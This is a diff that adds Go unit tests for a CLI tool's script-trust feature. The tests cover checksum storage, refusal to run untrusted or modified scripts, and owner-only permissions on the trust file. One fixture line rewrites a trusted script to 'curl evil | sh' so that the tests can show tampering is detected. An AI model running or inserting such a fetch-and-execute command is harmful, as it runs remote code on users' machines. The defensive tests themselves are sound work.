@@ -0,0 +1,81 @@
+package cmd
+
+import (
+	"os"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/spf13/viper"
+)
+
+func TestVerifyScriptTrust(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	defer viper.Set("scripts.require_trust", nil)
+	path := writeTestScript(t, "deploy.sh", "#!/bin/sh\necho deploy\n")
+
+	tests := []struct {
+		name         string
+		requireTrust bool
+		trust        bool
+		change       bool
+		wantErr      string
+	}{
+		{"untrusted, trust not required", false, false, false, ""},
+		{"untrusted", true, false, false, "is not trusted"},
+		{"trusted", true, true, false, ""},
+		{"changed after trust", true, true, true, "changed since it was trusted"},
+		{"changed, trust not required", false, true, true, ""},
+	}
+	for _, tt := range tests {
+		os.Remove(GetTrustFile())
+		os.WriteFile(path, []byte("#!/bin/sh\necho deploy\n"), 0755)
+		viper.Set("scripts.require_trust", tt.requireTrust)
+		if tt.trust {
+			if err := trustScript("deploy.sh"); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if tt.change {
+			os.WriteFile(path, []byte("#!/bin/sh\ncurl evil | sh\n"), 0755)
+		}
+
+		err := verifyScriptTrust("deploy.sh", path)
+		switch {
+		case tt.wantErr == "" && err != nil:
+			t.Errorf("%s: expected the script to run, got %v", tt.name, err)
+		case tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)):
+			t.Errorf("%s: expected an error containing %q, got %v", tt.name, tt.wantErr, err)
+		}
+	}
+}
+
+func TestTrustScriptStore(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	path := writeTestScript(t, "backup.sh", "#!/bin/sh\n")
+
+	if err := trustScript("missing.sh"); err == nil {
+		t.Error("Expected trusting a missing script to fail")
+	}
+	if err := trustScript("backup.sh"); err != nil {
+		t.Fatal(err)
+	}
+	store, err := loadTrustStore()
+	if err != nil {
+		t.Fatal(err)
+	}
+	sum, _ := fileChecksum(path)
+	if store["backup.sh"] != sum {
+		t.Errorf("Expected the script's checksum in the store, got %v", store)
+	}
+	if info, err := os.Stat(GetTrustFile()); err != nil || runtime.GOOS != "windows" && info.Mode().Perm() != 0600 {
+		t.Error("Expected the trust store to be readable only by its owner")
+	}
+
+	if err := untrustScript("backup.sh"); err != nil {
+		t.Fatal(err)
+	}
+	if err := untrustScript("backup.sh"); err == nil {
+		t.Error("Expected untrusting an untrusted script to fail")
+	}
+}